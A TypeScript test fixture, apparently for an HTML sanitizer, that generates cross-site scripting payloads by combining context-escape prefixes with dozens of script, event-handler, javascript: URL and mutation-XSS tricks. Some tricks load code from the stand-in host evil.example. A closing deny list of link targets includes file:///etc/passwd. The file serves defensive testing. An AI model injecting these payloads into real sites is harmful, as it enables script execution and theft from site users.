/**
 * Texts that would run a script, load something or leave the page wherever they are put into HTML unescaped: every trick
 * behind every way out of where a text may stand. What runs calls `canary`; what is loaded comes from `ELSEWHERE`.
 */
export const ELSEWHERE = "https://evil.example";

/** A plain picture by https is the author's to show in a block of HTML: pages may load it, and nothing else of all this. */
export const PICTURE = `${ELSEWHERE}/c.png`;

/** Ways out of where a text stands. */
const EXITS = [
  "", // between tags
  '">', // an attribute in double quotes
  "'>", // in single quotes
  "</title></textarea></style></script>", // an element whose text is no markup
  "--></p>", // a comment
  "</td></tr></table></div>", // the tables of a signature
  "]]></svg></math>", // foreign content
  "&quot;&gt;", // an attribute that is decoded twice
  "\\x3e\\u0022>", // a string of a script
  "{{displayName}}", // a merge field
];

const RUN = "canary(1)";

const TRICKS = [
  `<script>${RUN}</script>`,
  `<ScRiPt\t>${RUN}</sCrIpT >`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<script type=module>import("${ELSEWHERE}/b.js")</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img/src/onerror=${RUN}>`,
  `<img src=${PICTURE}>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="${ELSEWHERE}/d.svg#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template><iframe srcdoc="<img src=x onerror=parent.${RUN}>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src=${ELSEWHERE}/e.swf>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}" id=x>x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  `<link rel=stylesheet href=${ELSEWHERE}/f.css>`,
  `<style>@import "${ELSEWHERE}/g.css";*{background:url(${ELSEWHERE}/h.png)}</style>`,
  `<p style="background:url(${ELSEWHERE}/i.png);position:fixed;inset:0;animation:x" onanimationstart=${RUN}>`,
  `<form action=${ELSEWHERE}><button autofocus onfocus=${RUN}>x</button></form>`,
  `x" onmouseover=${RUN} onfocus=${RUN} autofocus tabindex=1 style="position:fixed;inset:0" y="`,
  `javascript:${RUN}//`,
  "${canary(1)}{{constructor.constructor('canary(1)')()}}",
];

/** Every trick behind every exit. */
export const payloads = EXITS.flatMap((exit) => TRICKS.map((trick) => exit + trick));

/** Where a link may not lead. */
export const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://console.example/1",
  "//evil.example",
];
